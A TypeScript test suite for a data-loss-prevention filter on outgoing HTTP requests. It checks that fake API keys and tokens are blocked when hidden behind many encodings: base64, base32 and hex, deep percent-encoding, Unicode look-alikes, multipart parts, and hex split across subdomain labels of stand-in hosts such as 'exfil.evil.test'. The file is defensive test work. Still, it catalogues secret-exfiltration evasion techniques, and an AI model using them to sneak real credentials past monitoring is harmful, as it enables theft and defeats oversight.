// Evasion: the same planted secret hidden behind every encoding trick the reference lists.
// Each case must still be blocked by a DLP stage.
import { createHash } from 'node:crypto';
import t, { type Test } from 'tap';
import { dlpOnlyPolicy, evaluate, type HttpRequest } from '../../lib/policy/index.js';
import { encodeBase32 } from '../../lib/policy/decoders.js';
import { FAKE } from '../fixtures/policy/fake-secrets.js';

const open = dlpOnlyPolicy();
const S = FAKE.anthropic;
const b64 = (s: string) => Buffer.from(s).toString('base64');
const b64url = (s: string) => Buffer.from(s).toString('base64url');
const hex = (s: string) => Buffer.from(s).toString('hex');
const get = (url: string, headers: Record<string, string> = {}): HttpRequest => ({ method: 'GET', url, headers });
const post = (body: string, contentType: string, headers: Record<string, string> = {}): HttpRequest => ({
  method: 'POST', url: 'https://x.test/upload', headers: { 'Content-Type': contentType, ...headers }, body,
});
// Fullwidth forms of printable ASCII (U+FF01..U+FF5E) and Cyrillic look-alikes.
const fullwidth = (s: string) => s.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
const cyrillic = (s: string) => s.replace(/a/g, '\u0430').replace(/e/g, '\u0435').replace(/o/g, '\u043e').replace(/p/g, '\u0440').replace(/c/g, '\u0441');

function blockedByDlp(t: Test, req: HttpRequest, name: string, where?: RegExp): void {
  const v = evaluate(open, req);
  t.equal(v.verdict, 'block', name);
  t.match(v.stage, /^(url-dlp|header-dlp|body-dlp)$/, `${name}: DLP stage (got ${v.stage}: ${v.reason})`);
  if (where) t.match(v.reason, where, `${name}: reason`);
}

t.test('the acceptance example: base64 secret in a query value', async (t) => {
  const q = 'c2stYW50LWFwaTAzLXU4anpQZGUwSWd4TGQ2R25jZkJBZXBmSkJkMEtoOG9PT0w4ZEtMemQ=';
  const v = evaluate(open, get(`https://x.test/?q=${q}`));
  t.same(v, { verdict: 'block', stage: 'url-dlp', reason: 'secret in base64-decoded query value (anthropic-api-key)', rule: 'anthropic-api-key' });
});

t.test('URL encodings', async (t) => {
  const cases: Array<[string, string, RegExp]> = [
    ['base64 std', `https://x.test/?q=${encodeURIComponent(b64(S))}`, /base64-decoded query value/],
    ['base64 url-safe unpadded', `https://x.test/?q=${b64url(S)}`, /base64-decoded query value/],
    ['base64 in a query key', `https://x.test/?${b64url(S)}`, /base64-decoded query key/],
    ['base32', `https://x.test/?q=${encodeBase32(Buffer.from(S))}`, /base32-decoded query value/],
    ['base32 lower-case', `https://x.test/?q=${encodeBase32(Buffer.from(S)).toLowerCase()}`, /base32-decoded/],
    ['hex path segment', `https://x.test/a/${hex(S)}/b`, /hex-decoded path segment/],
    ['hex upper-case', `https://x.test/a/${hex(S).toUpperCase()}`, /hex-decoded path segment/],
    ['\\x hex', `https://x.test/?d=${encodeURIComponent(hex(S).replace(/../g, '\\x$&'))}`, /hex-decoded query value/],
    ['0x hex', `https://x.test/?d=${hex(S).replace(/../g, '0x$&')}`, /hex-decoded query value/],
    ['colon hex', `https://x.test/?d=${hex(S).replace(/..(?!$)/g, '$&:')}`, /hex-decoded query value/],
    ['dash hex', `https://x.test/?d=${hex(S).replace(/..(?!$)/g, '$&-')}`, /hex-decoded query value/],
    ['space hex', `https://x.test/?d=${hex(S).replace(/..(?!$)/g, '$&%20')}`, /hex-decoded query value/],
    ['comma hex', `https://x.test/?d=${hex(S).replace(/..(?!$)/g, '$&,')}`, /hex-decoded query value/],
    ['percent-encoded twice', `https://x.test/?q=${encodeURIComponent(encodeURIComponent(S)).replace(/-/g, '%252D')}`, /query value/],
    ['percent-encoded three times', `https://x.test/?q=${[...S].map((c) => `%2525${c.charCodeAt(0).toString(16)}`).join('')}`, /query value/],
    ['every byte percent-encoded in the path', `https://x.test/${[...S].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}`, /path segment/],
    ['split across subdomain labels', `https://${S.slice(0, 5)}.${S.slice(5, 30)}.${S.slice(30)}.x.test/`.toLowerCase(), /hostname|subdomain/],
    ['split across path segments', `https://x.test/${S.slice(0, 9)}/${S.slice(9)}`, /path/],
    ['split across query values', `https://x.test/?a=${S.slice(0, 9)}&b=${S.slice(9)}`, /joined query values/],
    ['noise characters inserted', `https://x.test/?q=${S.slice(0, 7)}.${S.slice(7, 20)}+${S.slice(20)}`, /separators removed/],
    ['base64 of hex (nested)', `https://x.test/?q=${b64url(hex(S))}`, /base64\+hex-decoded/],
    ['hex of base64 (nested)', `https://x.test/?q=${hex(b64(S))}`, /hex\+base64-decoded/],
    ['base64 inside a longer value', `https://x.test/?q=${encodeURIComponent(`data:text/plain;base64,${b64(S)}`)}`, /base64-decoded query value/],
    ['fullwidth', `https://x.test/?q=${encodeURIComponent(fullwidth(S))}`, /query value/],
    ['cyrillic look-alikes', `https://x.test/?q=${encodeURIComponent(cyrillic(S))}`, /query value/],
    ['IDN host with look-alikes', `https://${cyrillic(S.slice(0, 16).toLowerCase())}.${S.slice(16, 40).toLowerCase()}.x.test/`, /hostname/],
    ['zero-width joiners', `https://x.test/?q=${encodeURIComponent([...S].join('\u200b'))}`, /query value/],
  ];
  for (const [name, url, where] of cases) blockedByDlp(t, get(url), name, where);
});

t.test('header encodings', async (t) => {
  blockedByDlp(t, get('https://x.test/', { 'X-Custom': S }), 'X-Custom header', /X-Custom header/);
  blockedByDlp(t, get('https://x.test/', { 'X-Trace': b64(S) }), 'base64 header', /base64-decoded X-Trace header/);
  blockedByDlp(t, get('https://x.test/', { Authorization: `Bearer ${b64url(S)}` }), 'bearer base64');
  blockedByDlp(t, get('https://x.test/', { Cookie: `session=abc; t=${hex(S)}` }), 'hex cookie value');
  blockedByDlp(t, get('https://x.test/', { 'User-Agent': `curl/8 ${S}` }), 'benign header still pattern-scanned', /User-Agent header/);
  // Regression: these five headers were raw-scanned only, so any encoding walked past.
  for (const name of ['User-Agent', 'Accept', 'Accept-Language', 'Accept-Encoding', 'Content-Type']) {
    blockedByDlp(t, get('https://x.test/', { [name]: `x/1 ${b64(S)}` }), `base64 in ${name}`, new RegExp(`base64-decoded ${name} header`));
  }
  blockedByDlp(t, get('https://x.test/', { [S]: '1' }), 'secret as a header name', /header name/);
  blockedByDlp(t, get('https://x.test/', { 'X-Custom': fullwidth(S) }), 'fullwidth header');
});

t.test('body encodings', async (t) => {
  blockedByDlp(t, post(JSON.stringify({ a: [{ b: { c: { d: S } } }] }), 'application/json'), 'nested JSON value', /JSON value/);
  blockedByDlp(t, post(JSON.stringify({ [S]: 1 }), 'application/json'), 'JSON key', /JSON key/);
  blockedByDlp(t, post(JSON.stringify({ a: JSON.stringify({ b: b64(S) }) }), 'application/json'), 'base64 in JSON-in-JSON');
  blockedByDlp(t, post(JSON.stringify({ q: S.replace(/-/g, '\\u002d') }).replace(/\\\\/g, '\\'), 'application/vnd.api+json'), 'JSON unicode escapes');
  blockedByDlp(t, post(`a=1&b=${encodeURIComponent(S)}`, 'application/x-www-form-urlencoded'), 'form value', /form value/);
  blockedByDlp(t, post(`x=${encodeURIComponent(encodeURIComponent(b64(S)))}`, 'application/x-www-form-urlencoded'), 'form base64 double-percent');
  blockedByDlp(t, post(b64(b64(b64(S))), 'text/plain'), 'base64 three deep', /base64\+base64\+base64-decoded body/);
  blockedByDlp(t, post(`hello ${fullwidth(S)} bye`, 'text/plain'), 'fullwidth in text');
  const utf16 = (s: string) => new Uint8Array(Buffer.from(s, 'utf16le'));
  blockedByDlp(t, { ...post('', 'text/plain; charset=utf-16le'), body: utf16(`key ${S}`) }, 'declared UTF-16 body');
  blockedByDlp(t, { ...post('', 'application/octet-stream'), body: utf16(`key ${S}`) }, 'undeclared UTF-16 body', /UTF-16 body/);
  blockedByDlp(t, post(`\ufeff${JSON.stringify({ k: S })}`, 'application/json'), 'JSON with a BOM');
  const boundary = 'XyZ123';
  const multipart = (part: string) => `--${boundary}\r\nContent-Disposition: form-data; name="f"\r\n${part}\r\n--${boundary}--\r\n`;
  blockedByDlp(t, post(multipart(`Content-Transfer-Encoding: base64\r\n\r\n${b64(`note: ${S}`).replace(/.{20}/g, '$&\r\n')}`), `multipart/form-data; boundary=${boundary}`), 'multipart base64 part', /multipart/);
  const qp = [...`key ${S}`].map((c) => `=${c.charCodeAt(0).toString(16).toUpperCase()}`).join('').replace(/.{60}/g, '$&=\r\n');
  blockedByDlp(t, post(multipart(`Content-Transfer-Encoding: quoted-printable\r\n\r\n${qp}`), `multipart/form-data; boundary="${boundary}"`), 'multipart quoted-printable part', /quoted-printable/);
  blockedByDlp(t, post(multipart(`Content-Type: application/json\r\n\r\n{"k":{"v":"${S}"}}`), `multipart/form-data; boundary=${boundary}`), 'multipart JSON part');
  // A content line that merely starts with the boundary text must not end the part early.
  const tricky = `--${boundary}\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(`x ${S}`)}\r\n--${boundary}X not a delimiter\r\n--${boundary}--\r\n`;
  blockedByDlp(t, post(tricky, `multipart/form-data; boundary=${boundary}`), 'boundary prefix inside content', /base64/);
});

// Issue 13, class 4: shapes that hid a secret from every decoder before.
t.test('encodings and shapes: wrapped base64, binary, deep percent-encoding, label chains, case', async (t) => {
  const wrap = (s: string, cols: number, eol: string) => s.match(new RegExp(`.{1,${cols}}`, 'g'))!.join(eol);
  // The secret starts 4 bytes before a line ends (lines hold 48 bytes at 64 columns, 57 at 76),
  // so no single line decodes to enough of it.
  const blob = (cols: 64 | 76) => b64(`${'#'.repeat(cols === 64 ? 44 : 53)}${S} ${'#'.repeat(50)}`);
  blockedByDlp(t, post(JSON.stringify({ blob: wrap(blob(76), 76, '\n') }), 'application/json'), 'base64 wrapped at 76 columns (base64)', /base64-decoded JSON value/);
  blockedByDlp(t, post(wrap(blob(64), 64, '\r\n'), 'text/plain'), 'base64 wrapped at 64 columns, CRLF (openssl)', /base64-decoded body/);
  blockedByDlp(t, post(`attachment:\n${wrap(blob(76), 76, '\r\n')}\n`, 'text/plain'), 'wrapped base64 inside prose', /base64-decoded body/);
  const binary = Buffer.concat([Buffer.from([0x50, 0x4b, 3, 4, 0, 0, 0x80, 0xff]), Buffer.from(S), Buffer.from([0, 0x9c, 0xfe, 1, 2, 3])]);
  blockedByDlp(t, post(JSON.stringify({ file: binary.toString('base64') }), 'application/json'), 'base64 of binary with the secret inside', /base64-decoded JSON value/);
  // Decoding used to stop after 3 rounds, at each of 3 nested layers: 13 layers got through.
  let nested = [...S].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');
  for (let i = 1; i < 13; i++) nested = encodeURIComponent(nested);
  blockedByDlp(t, get(`https://x.test/?q=${nested}`), 'percent-encoding 13 deep in a query value', /query value/);
  blockedByDlp(t, post(`q=${nested}`, 'application/x-www-form-urlencoded'), 'percent-encoding 13 deep in a form value', /form value/);
  const labels = (s: string, n: number) => s.match(new RegExp(`.{1,${n}}`, 'g'))!.join('.');
  const hx = hex(FAKE.github);
  blockedByDlp(t, get(`https://${labels(hx, 40)}.evil.test/`), 'hex over labels', /subdomain|hostname/);
  blockedByDlp(t, get(`https://7.${labels(hx, 30)}.exfil.evil.test/`), 'hex over labels after a counter label, before a word label', /hex-decoded hostname labels/);
  blockedByDlp(t, get(`https://q7.${labels(encodeBase32(Buffer.from(FAKE.github)).toLowerCase(), 20)}.www.evil.test/`), 'base32 over labels after a label that shifts its alignment', /base32-decoded hostname labels/);
  blockedByDlp(t, post(`k=${FAKE.github.replace('ghp_', 'GHP_')}`, 'text/plain'), 'GHP_ prefix in upper case', /github-token/);
  blockedByDlp(t, post(`k=${S.replace('sk-ant-', 'SK-ANT-')}`, 'text/plain'), 'SK-ANT- prefix in upper case', /anthropic-api-key/);
  blockedByDlp(t, get(`https://x.test/?id=${FAKE.awsKeyId.toLowerCase()}`), 'AWS key id in lower case', /aws-access-key-id/);
});

t.test('encodings and shapes: ordinary data of the same shapes passes', async (t) => {
  const image = Buffer.alloc(48 * 1024);
  for (let i = 0; i < image.length; i++) image[i] = (i * 2654435761) >>> 24;
  const dataUrl = `data:image/png;base64,${image.toString('base64')}`;
  t.match(evaluate(open, post(JSON.stringify({ image: dataUrl }), 'application/json')), { verdict: 'allow' }, 'long base64 image data');
  t.match(evaluate(open, post(image.toString('base64').match(/.{1,76}/g)!.join('\n'), 'text/plain')), { verdict: 'allow' }, 'wrapped base64 of binary');
  for (const host of ['api.github.com', 'files.pythonhosted.org', 'objects.githubusercontent.com', 'd3f7a9c2b1e4.cloudfront.net', 'ec2-3-120-45-67.eu-central-1.compute.amazonaws.com']) {
    t.match(evaluate(open, get(`https://${host}/x`)), { verdict: 'allow' }, host);
  }
  for (const word of ['asiapacificregionsoutheast', 'asiapacificregionsou', 'Asiapacificregionsou']) {
    t.match(evaluate(open, get(`https://x.test/search?q=${word}`)), { verdict: 'allow' }, `${word}: a word that starts like an AWS prefix`);
  }
  t.match(evaluate(open, post('100%25 done, 50%2525 of 20%', 'text/plain')), { verdict: 'allow' }, 'percent signs in prose');
});

// Issue 13, "what must keep passing", the other side: the exemptions for signed URLs, digests
// and placeholders explain a whole value or nothing, so a secret inside one is still found.
t.test('signed-URL shapes carrying a secret', async (t) => {
  const scope = `${FAKE.awsKeyId}/20261207/us-east-1/s3/aws4_request`;
  const secretKey = createHash('sha256').update('secret key').digest().subarray(0, 30).toString('base64'); // 40 characters, as AWS's
  const presigned = (credential: string) => get(`https://b.s3.test/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=${encodeURIComponent(credential)}&X-Amz-Date=20261207T045600Z`);
  blockedByDlp(t, presigned(`${scope}/${secretKey}`), 'secret key after the scope', /aws-access/);
  blockedByDlp(t, presigned(`${scope}${secretKey}`), 'secret key glued to aws4_request', /aws-access/);
  blockedByDlp(t, presigned(`${secretKey}${scope}`), 'secret key before the key id', /aws-access/);
  blockedByDlp(t, presigned(scope.replace('/us-east-1/', '/us-east-1/x/')), 'not exactly a scope', /aws-access/);
  blockedByDlp(t, presigned(`${scope.replace('AKIA', 'AKIAQ')}`), 'a 21-character id', /aws-access/);
  blockedByDlp(t, presigned(scope.replace('/s3/', `/${S}/`)), 'a token as the service', /anthropic-api-key/);
  const auth = (credential: string) => get('https://b.s3.test/k', { Authorization: `AWS4-HMAC-SHA256 Credential=${credential}, SignedHeaders=host, Signature=${'0f'.repeat(32)}` });
  blockedByDlp(t, auth(`${scope}/${secretKey}`), 'Authorization: secret key after the scope', /Authorization header \(aws-access/);
  blockedByDlp(t, auth(`${scope}${secretKey}`), 'Authorization: secret key glued on', /Authorization header \(aws-access/);
  // Exempt from entropy as a digest (32 binary-looking bytes), yet its decoding is still scanned.
  const sig = Buffer.concat([Buffer.from(FAKE.awsKeyId), Buffer.alloc(12, 0xfe)]).toString('base64');
  blockedByDlp(t, get(`https://a.blob.test/c/b?sv=2022-11-02&sig=${encodeURIComponent(sig)}`), 'a token inside a 32-byte sig', /base64-decoded query value \(aws-access-key-id\)/);
  blockedByDlp(t, get(`https://x.test/cas/sha256/${Buffer.from(S.slice(0, 32)).toString('base64url')}`), 'a token prefix as a base64url "hash" path segment', /base64-decoded path segment/);
});

t.test('placeholders explain a whole value or nothing', async (t) => {
  const real = 'Xk9mP2vQ7rT4wZ8n';
  for (const value of [`changeme${real}`, `${real}changeme`, `changeme123${real}`, `your-${real}`, `your-api-key-${real}`]) {
    blockedByDlp(t, post(`DB_HOST=localhost\nDB_PASSWORD=${value}\n`, 'text/plain'), `DB_PASSWORD=${value.replace(real, '<secret>')}`, /env-var-secret/);
    blockedByDlp(t, post(`API_KEY=${value}\n`, 'text/plain'), `API_KEY=${value.replace(real, '<secret>')}`, /credential-in-url/);
  }
  t.match(evaluate(open, post('DB_PASSWORD=changeme123\nAPI_KEY=your-api-key-here\nSECRET_KEY=replace-me\n', 'text/plain')), { verdict: 'allow' }, 'the placeholders themselves');
});
